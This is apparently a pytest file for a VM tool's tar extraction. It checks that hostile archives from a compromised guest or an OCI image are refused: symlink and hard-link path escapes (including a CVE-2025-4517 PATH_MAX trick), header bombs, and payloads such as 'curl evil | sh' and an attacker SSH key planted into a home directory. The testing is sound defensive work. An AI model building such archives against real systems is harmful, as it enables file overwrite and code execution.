"""Hostile tars on the host: a compromised guest's ``copy_out`` stream, a local OCI image
archive and its layers. Each attack must leave everything outside the destination as it
was, fail with the boundary's error type (ArchiveError for a guest's tree, ImageError for
images), and bombs must be refused quickly with bounded memory."""

from __future__ import annotations

import asyncio
import dataclasses
import gzip
import io
import os
import stat
import tarfile
import time
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from unittest import mock

import pytest
import zstandard

from boxvm import extract, tarstream
from boxvm.errors import ArchiveError, ImageError, InvalidArgument
from boxvm.images import oci
from boxvm.tarstream import receive_tree
from tests.helpers import build_layout

Build = Callable[[tarfile.TarFile], None]
LONG = "d" * 247  # a directory name near NAME_MAX: a few of them overflow PATH_MAX
STEPS = "abcdefghijklmnopqr"  # enough long levels that the expanded path passes 4096 bytes


def _add(tar: tarfile.TarFile, name: str, data: bytes | None = None, **attrs: object) -> None:
    info = tarfile.TarInfo(name)
    for key, value in attrs.items():
        setattr(info, key, value)
    if data is None:
        tar.addfile(info)
    else:
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))


def _tar(*builds: Build) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for build in builds:
            build(tar)
    return buf.getvalue()


def _escape_chain(top: str = "", up: str = "") -> Build:
    """The CVE-2025-4517 set-up: ``a/b/…/r`` is a short string whose expansion through
    symlinks to long directory names passes PATH_MAX, where ``realpath()`` stops resolving.
    ``escape`` then looks (to realpath) like ``<dest>/…/l/../outside`` but the kernel
    follows ``l`` back to ``<dest>``, so ``escape`` -> ``<dest>/../outside``."""
    up += "../" * top.count("/")

    def build(tar: tarfile.TarFile) -> None:
        path = top  # names go through the short links: each stays far below PATH_MAX
        for step in STEPS:
            _add(tar, path + LONG, type=tarfile.DIRTYPE, mode=0o755)
            _add(tar, path + step, type=tarfile.SYMTYPE, linkname=LONG)
            path += step + "/"
        _add(tar, path + "l", type=tarfile.SYMTYPE, linkname="/".join([".."] * len(STEPS)))
        short = "/".join(STEPS)
        _add(tar, top + "escape", type=tarfile.SYMTYPE, linkname=f"{short}/l/../{up}outside/secret")
        _add(tar, top + "escdir", type=tarfile.SYMTYPE, linkname=f"{short}/l/../{up}outside")

    return build


def _attacks(up: str = "") -> dict[str, tuple[Build, ...]]:
    """Each attack aims at ``<dest>/../outside`` (``up`` adds levels for deeper destinations)."""
    return {
        # hard link to the outside file through the long-path trick, then write through it
        "long-path hard link": (
            _escape_chain(up=up),
            lambda t: _add(t, "hl", type=tarfile.LNKTYPE, linkname="escape"),
            lambda t: _add(t, "hl", b"owned\n"),
        ),
        # a new file created outside through a directory symlink that realpath misjudges
        "long-path new file": (_escape_chain(up=up), lambda t: _add(t, "escdir/new", b"planted\n")),
        "symlink then write": (
            lambda t: _add(t, "s", type=tarfile.SYMTYPE, linkname=f"{up}../outside"),
            lambda t: _add(t, "s/secret", b"owned\n"),
        ),
        "symlink then hard link": (
            lambda t: _add(t, "s", type=tarfile.SYMTYPE, linkname=f"{up}../outside/secret"),
            lambda t: _add(t, "h", type=tarfile.LNKTYPE, linkname="s"),
        ),
        "hard link out": (lambda t: _add(t, "h", type=tarfile.LNKTYPE, linkname=f"{up}../outside/secret"),),
        "dot-dot name": (lambda t: _add(t, f"a/../../{up}outside/secret", b"owned\n"),),
        "absolute name": (lambda t: _add(t, "/tmp/boxvm-tar-absolute", b"owned\n"),),
    }


ATTACKS = _attacks()


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[Path]:
    """A sentinel tree next to the destination; asserts after the test it is unchanged."""
    root = tmp_path / "outside"
    (root / "dir").mkdir(parents=True)
    (root / "secret").write_text("secret\n")
    (root / "dir" / "x").write_text("x\n")
    before = _snapshot(root)
    yield root
    assert _snapshot(root) == before
    assert not Path("/tmp/boxvm-tar-absolute").exists()


def _snapshot(root: Path) -> dict[str, tuple[int, bytes, int]]:
    found = {}
    for dirpath, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(dirpath) / name
            st = path.lstat()
            body = os.readlink(path).encode() if path.is_symlink() else path.read_bytes() if path.is_file() else b""
            found[str(path.relative_to(root))] = (st.st_mode, body, st.st_nlink)
    return found


async def _chunks(data: bytes, size: int = 64 << 10) -> AsyncIterator[bytes]:
    for i in range(0, len(data), size):
        yield data[i : i + size]


def _receive(data: bytes, dest: Path, box_path: str = "/root/tree") -> None:
    """As ``copy_out(box_path, dest)`` receives it (into ``dest/tree`` if ``dest`` is a directory)."""
    asyncio.run(receive_tree(_chunks(data), dest, box_path))


def _peak_rss_mib() -> float:
    with open("/proc/self/status") as f:
        return next(int(line.split()[1]) for line in f if line.startswith("VmHWM:")) / 1024


def _reset_peak() -> None:
    with open("/proc/self/clear_refs", "w") as f:
        f.write("5")  # resets VmHWM to the current RSS


# -- copy_out: the stream a compromised guest agent sends ----------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_copy_out_stream_is_refused(tmp_path: Path, outside: Path, attack: str) -> None:
    dest = tmp_path / "dest"
    dest.mkdir()
    with pytest.raises(ArchiveError):
        _receive(_tar(*ATTACKS[attack]), dest)  # into an existing directory: names are kept
    assert list(dest.iterdir()) == []  # every top-level entry it made is gone again


def test_hostile_copy_out_to_a_new_name_leaves_nothing(tmp_path: Path, outside: Path) -> None:
    (tmp_path / "dest").mkdir()
    attack = (
        _escape_chain("top/"),
        lambda t: _add(t, "top/hl", type=tarfile.LNKTYPE, linkname="top/escape"),
        lambda t: _add(t, "top/hl", b"owned\n"),
    )
    with pytest.raises(ArchiveError, match="symlink"):
        _receive(_tar(*attack), tmp_path / "dest" / "copied")
    assert list((tmp_path / "dest").iterdir()) == []


def test_copy_out_never_writes_through_a_link_already_in_the_destination(tmp_path: Path, outside: Path) -> None:
    dest = tmp_path / "dest"
    (dest / "tree").mkdir(parents=True)  # a second copy_out of /root/tree merges into dest/tree
    (dest / "tree" / "out").symlink_to(outside)
    (dest / "tree" / "file").symlink_to(outside / "secret")
    with pytest.raises(ArchiveError, match="symlink"):
        _receive(_tar(lambda t: _add(t, "tree/out/secret", b"owned\n")), dest)
    _receive(_tar(lambda t: _add(t, "tree/file", b"replaced\n")), dest)  # the link is replaced, not followed
    assert not (dest / "tree/file").is_symlink() and (dest / "tree/file").read_text() == "replaced\n"
    with pytest.raises(ArchiveError, match="did not write"):  # a file of the caller's is no link target
        _receive(_tar(lambda t: _add(t, "tree/alias", type=tarfile.LNKTYPE, linkname="tree/file")), dest)
    assert sorted(p.name for p in (dest / "tree").iterdir()) == ["file", "out"]


def test_copy_out_into_a_directory_writes_only_under_the_copied_name(tmp_path: Path, outside: Path) -> None:
    """``copy_out("/root/report", home)``: whatever names the guest's stream uses, it cannot
    write ``home/.bashrc`` or ``home/.ssh/authorized_keys``, nor loosen ``home/.ssh``."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True, mode=0o700)
    (home / ".bashrc").write_text("mine\n")
    data = _tar(
        lambda t: _add(t, ".ssh", type=tarfile.DIRTYPE, mode=0o777),
        lambda t: _add(t, ".ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n"),
        lambda t: _add(t, ".bashrc/x", b"curl evil | sh\n"),
    )
    _receive(data, home, "/root/report")
    assert (home / ".bashrc").read_text() == "mine\n"
    assert list((home / ".ssh").iterdir()) == [] and stat.S_IMODE((home / ".ssh").stat().st_mode) == 0o700
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", ".ssh", "report"]  # all of it under report/
    assert (home / "report" / "authorized_keys").read_bytes() == b"ssh-ed25519 AAAA attacker\n"
    with pytest.raises(ArchiveError, match="replace a directory"):  # a file named like the directory
        _receive(_tar(lambda t: _add(t, ".bashrc", b"curl evil | sh\n")), home, "/root/report")
    assert (home / ".bashrc").read_text() == "mine\n"
    existing = home / "report"
    os.chmod(existing, 0o700)
    _receive(_tar(lambda t: _add(t, "report", type=tarfile.DIRTYPE, mode=0o777)), home, "/root/report")
    assert stat.S_IMODE(existing.stat().st_mode) == 0o700  # a directory it did not create keeps its mode
    with pytest.raises(InvalidArgument):
        _receive(data, home, "/")


def test_copy_out_bounds_entries_and_depth(tmp_path: Path, outside: Path) -> None:
    deep = "tree/" + "d/" * 300 + "f"
    with pytest.raises(ArchiveError, match="nested"):
        _receive(_tar(lambda t: _add(t, deep, b"x")), tmp_path / "dest")
    assert not (tmp_path / "dest").exists()


def test_copy_out_refuses_devices_and_fifos(tmp_path: Path, outside: Path) -> None:
    (tmp_path / "dest").mkdir()
    for kind in (tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE):
        data = _tar(lambda t, k=kind: _add(t, "node", type=k, devmajor=1, devminor=3))  # type: ignore[misc]
        with pytest.raises(ArchiveError, match="device"):
            _receive(data, tmp_path / "dest")
    assert list((tmp_path / "dest").iterdir()) == []


def test_copy_out_strips_special_mode_bits_and_owners(tmp_path: Path, outside: Path) -> None:
    dest = tmp_path / "dest"
    dest.mkdir()
    data = _tar(
        lambda t: _add(t, "tree", type=tarfile.DIRTYPE, mode=0o1777, uid=4242),
        lambda t: _add(t, "tree/suid", b"x", mode=0o6777, uid=4242, gid=4242),
        lambda t: _add(t, "tree/open", b"y", mode=0o666),
    )
    _receive(data, dest)
    modes = {p.name: stat.S_IMODE(p.lstat().st_mode) for p in (dest / "tree", dest / "tree/suid", dest / "tree/open")}
    assert modes == {"tree": 0o775, "suid": 0o775, "open": 0o664}
    assert {(dest / "tree/suid").stat().st_uid, (dest / "tree").stat().st_uid} == {os.getuid()}


def test_truncated_copy_out_leaves_no_half_written_file(tmp_path: Path, outside: Path) -> None:
    dest = tmp_path / "dest"
    dest.mkdir()
    data = _tar(lambda t: _add(t, "tree/big", os.urandom(200_000)))
    with pytest.raises(ArchiveError, match="unexpected end"):
        _receive(data[:100_000], dest / "copy")
    assert list(dest.iterdir()) == []


def test_legitimate_tree_round_trips_including_paths_past_path_max(tmp_path: Path, outside: Path) -> None:
    """What a real guest sends: links stay links (stored, never followed), hard links
    are kept, and a tree deeper than PATH_MAX extracts, since no path string is built."""
    dest = tmp_path / "dest"
    dest.mkdir()
    deep = "/".join([LONG] * 20)  # ~5 KB: no single syscall could take this path
    data = _tar(
        lambda t: _add(t, "tree", type=tarfile.DIRTYPE, mode=0o750),
        lambda t: _add(t, "tree/f", b"data", mode=0o640),
        lambda t: _add(t, "tree/hard", type=tarfile.LNKTYPE, linkname="tree/f"),
        lambda t: _add(t, "tree/abs", type=tarfile.SYMTYPE, linkname="/etc/passwd"),
        lambda t: _add(t, "tree/up", type=tarfile.SYMTYPE, linkname="../../outside"),
        lambda t: _add(t, f"tree/{deep}/leaf", b"deep"),
        lambda t: _add(t, "tree/ro", type=tarfile.DIRTYPE, mode=0o555),
        lambda t: _add(t, "tree/ro/inside", b"in"),
    )
    _receive(data, dest / "copy")  # the top entry is renamed, hard link targets too
    copy = dest / "copy"
    assert (copy / "f").read_bytes() == b"data" and stat.S_IMODE((copy / "f").stat().st_mode) == 0o640
    assert (copy / "hard").stat().st_ino == (copy / "f").stat().st_ino
    assert os.readlink(copy / "abs") == "/etc/passwd" and os.readlink(copy / "up") == "../../outside"
    assert stat.S_IMODE(copy.stat().st_mode) == 0o750 and stat.S_IMODE((copy / "ro").stat().st_mode) == 0o555
    assert (copy / "ro" / "inside").read_bytes() == b"in"
    fd = os.open(copy, os.O_RDONLY)
    try:
        for part in deep.split("/"):
            fd, old = os.open(part, os.O_RDONLY, dir_fd=fd), fd
            os.close(old)
        assert os.stat("leaf", dir_fd=fd).st_size == 4
    finally:
        os.close(fd)


# -- bombs: headers that make tarfile allocate whatever they claim -----------------------

BOMB = 512 << 20


def _header(kind: bytes, size: int) -> bytes:
    """A bare header block of type ``kind`` (pax ``x``/``g``, GNU long name ``L``/``K``)."""
    info = tarfile.TarInfo("././@header")
    info.type, info.size = kind, size
    return info.tobuf(format=tarfile.USTAR_FORMAT)


def _bomb_header(kind: bytes) -> bytes:
    return _header(kind, BOMB)


async def _bomb_stream(kind: bytes) -> AsyncIterator[bytes]:
    yield _bomb_header(kind)
    zeros = b"1" * (1 << 20)  # pax records would be "1..." digits; tarfile reads them whole first
    for _ in range(BOMB >> 20):
        yield zeros


@pytest.mark.parametrize("kind", [b"x", b"L", b"K", b"g"])
def test_huge_extended_header_from_a_guest_is_refused_fast(tmp_path: Path, outside: Path, kind: bytes) -> None:
    (tmp_path / "dest").mkdir()
    _reset_peak()
    before, t0 = _peak_rss_mib(), time.monotonic()
    with pytest.raises(ArchiveError, match="over the limit"):
        asyncio.run(receive_tree(_bomb_stream(kind), tmp_path / "dest", "/root/tree"))
    assert time.monotonic() - t0 < 5
    assert _peak_rss_mib() - before < 100
    assert list((tmp_path / "dest").iterdir()) == []


@pytest.mark.parametrize(
    "build",
    [
        lambda t: _add(t, "s", type=tarfile.GNUTYPE_SPARSE),
        lambda t: _add(t, "s", b"", pax_headers={"GNU.sparse.major": "1", "GNU.sparse.minor": "0"}),
        lambda t: _add(t, "s", b"", pax_headers={"GNU.sparse.map": "0,1", "GNU.sparse.size": "1"}),
    ],
)
def test_sparse_members_are_refused(tmp_path: Path, outside: Path, build: Build) -> None:
    (tmp_path / "dest").mkdir()
    with pytest.raises(ArchiveError, match="sparse"):
        _receive(_tar(build), tmp_path / "dest")
    assert list((tmp_path / "dest").iterdir()) == []


def test_a_whiteout_of_unknown_type_claiming_exabytes_is_refused(tmp_path: Path, outside: Path) -> None:
    """tarfile skips an unknown member's claimed size block by block: 2**60 bytes never end."""
    info = tarfile.TarInfo(".wh.x")
    info.type, info.size = b"Z", 1 << 60
    layer = info.tobuf(format=tarfile.GNU_FORMAT) + b"\0" * 1024
    t0 = time.monotonic()
    with pytest.raises(ImageError, match="unknown tar type"):
        _unpack(tmp_path, layer)
    assert time.monotonic() - t0 < 5


def test_a_chain_of_extended_headers_is_refused(tmp_path: Path, outside: Path) -> None:
    record = b"11 path=aa\n"
    one = _header(b"x", len(record)) + record + b"\0" * (512 - len(record))
    (tmp_path / "dest").mkdir()
    with pytest.raises(ArchiveError, match="in a row"):
        _receive(one * 10_000 + b"\0" * 1024, tmp_path / "dest")


# -- local OCI images: the archive holding a layout, and the layers merged from it ------


def _archive(tmp_path: Path, *builds: Build, compress: bool = False) -> Path:
    data = _tar(*builds)
    path = tmp_path / "image.tar"
    path.write_bytes(gzip.compress(data, 1) if compress else data)
    return path


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_oci_archive_is_refused(tmp_path: Path, outside: Path, attack: str) -> None:
    (tmp_path / "dest").mkdir()
    work = tmp_path / "work"
    work.mkdir()
    with pytest.raises(ImageError):
        oci.read_layout(_archive(tmp_path, *_attacks("../")[attack]), work)  # it extracts into work/layout


def test_oci_archive_bomb_is_refused_fast(tmp_path: Path, outside: Path) -> None:
    (tmp_path / "dest").mkdir()
    (tmp_path / "work").mkdir()
    path = tmp_path / "image.tar"
    with gzip.open(path, "wb", compresslevel=1) as f:
        f.write(_bomb_header(b"x"))
        zeros = b"1" * (1 << 20)
        for _ in range(BOMB >> 20):
            f.write(zeros)
    assert path.stat().st_size < 4 << 20
    _reset_peak()
    before, t0 = _peak_rss_mib(), time.monotonic()
    with pytest.raises(ImageError, match="over the limit"):
        oci.read_layout(path, tmp_path / "work")
    assert time.monotonic() - t0 < 5
    assert _peak_rss_mib() - before < 100


def _unpack(tmp_path: Path, *layers: bytes) -> Path:
    layout = build_layout(tmp_path / "layout", list(layers), {"config": {}})
    root = tmp_path / "dest"
    oci.unpack(oci.read_layout(layout, tmp_path), root)
    return root


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_layer_is_refused(tmp_path: Path, outside: Path, attack: str) -> None:
    with pytest.raises(ImageError):
        _unpack(tmp_path, _tar(*ATTACKS[attack]))


@pytest.mark.parametrize("whiteout", [".wh..", "sub/.wh..", ".wh.", "sub/.wh..."])
def test_whiteout_of_a_parent_is_refused(tmp_path: Path, outside: Path, whiteout: str) -> None:
    lower = _tar(lambda t: _add(t, "keep", b"k"), lambda t: _add(t, "sub/file", b"f"))
    with pytest.raises(ImageError, match="whiteout"):
        _unpack(tmp_path, lower, _tar(lambda t: _add(t, whiteout)))
    assert (tmp_path / "dest" / "keep").read_bytes() == b"k" and (tmp_path / "dest" / "sub" / "file").exists()


def test_whiteouts_never_follow_symlinks(tmp_path: Path, outside: Path) -> None:
    lower = _tar(lambda t: _add(t, "s", type=tarfile.SYMTYPE, linkname="../outside"))
    upper = _tar(lambda t: _add(t, "s/.wh.secret"), lambda t: _add(t, "s/.wh..wh..opq"))
    with pytest.raises(ImageError, match="symlink"):
        _unpack(tmp_path, lower, upper)
    # and whiting out the link itself removes the link, not what it points at
    root = _unpack(tmp_path / "again", lower, _tar(lambda t: _add(t, ".wh.s")))
    assert list(root.iterdir()) == []


def test_layers_keep_devices_owners_and_setuid(tmp_path: Path, outside: Path) -> None:
    """What images need and copy_out refuses (the image path runs as root or under fakeroot)."""
    layer = _tar(
        lambda t: _add(t, "dev", type=tarfile.DIRTYPE, mode=0o755),
        lambda t: _add(t, "dev/null", type=tarfile.CHRTYPE, devmajor=1, devminor=3, mode=0o666),
        lambda t: _add(t, "dev/fifo", type=tarfile.FIFOTYPE, mode=0o600),
        lambda t: _add(t, "tmp", type=tarfile.DIRTYPE, mode=0o1777),
        lambda t: _add(t, "su", b"#!/bin/sh\n", mode=0o4755, uid=0, gid=0),
        lambda t: _add(t, "home", type=tarfile.DIRTYPE, mode=0o755, uid=1000, gid=1000),
    )
    root = _unpack(tmp_path, layer)
    null = (root / "dev" / "null").lstat()
    assert stat.S_ISCHR(null.st_mode) and os.major(null.st_rdev) == 1 and os.minor(null.st_rdev) == 3
    assert stat.S_IMODE(null.st_mode) == 0o666 and stat.S_ISFIFO((root / "dev" / "fifo").lstat().st_mode)
    assert stat.S_IMODE((root / "tmp").stat().st_mode) == 0o1777
    assert stat.S_IMODE((root / "su").stat().st_mode) == 0o4755
    if os.geteuid() == 0:
        assert (root / "home").stat().st_uid == 1000


def test_layer_bomb_is_refused_fast(tmp_path: Path, outside: Path) -> None:
    raw = io.BytesIO()
    with zstandard.ZstdCompressor(level=1).stream_writer(raw, closefd=False) as z:
        z.write(_bomb_header(b"x"))
        zeros = b"1" * (1 << 20)
        for _ in range(BOMB >> 20):
            z.write(zeros)
    layer = raw.getvalue()
    assert len(layer) < 1 << 20
    layout = build_layout(tmp_path / "layout", [layer], {"config": {}})
    image = oci.read_layout(layout, tmp_path)
    _reset_peak()
    before, t0 = _peak_rss_mib(), time.monotonic()
    with pytest.raises(ImageError, match="over the limit"):
        oci.unpack(image, tmp_path / "dest")
    assert time.monotonic() - t0 < 5
    assert _peak_rss_mib() - before < 100


def test_copy_out_bounds_what_it_keeps_and_what_follows_the_archive(tmp_path: Path, outside: Path) -> None:
    """Deep directory names a stream keeps to set their attributes last are bounded (each
    cost ~80 KB: 2^20 members reached ~83 GB), and so is what a guest sends after the end
    of the archive (it was read for as long as it came; refused, the copy leaves nothing)."""
    deep = "/".join(["d" * 200] * 200)

    def dirs(tar: tarfile.TarFile) -> None:
        for i in range(400):  # 400 * ~40 KB of names: over an 8 MiB budget
            _add(tar, f"{deep}/{i}/", type=tarfile.DIRTYPE)

    policy = dataclasses.replace(extract.COPY_OUT, max_dir_names=8 << 20)
    with mock.patch.object(tarstream, "COPY_OUT", policy), pytest.raises(ArchiveError, match="MiB of directories"):
        _receive(_tar(dirs), tmp_path / "deep")
    assert not (tmp_path / "deep").exists()

    def one(tar: tarfile.TarFile) -> None:
        _add(tar, "f", b"data")

    with pytest.raises(ArchiveError, match="after the end"):
        _receive(_tar(one) + b"junk" * (1 << 19), tmp_path / "trailing")
    assert not (tmp_path / "trailing").exists()  # what it wrote goes too
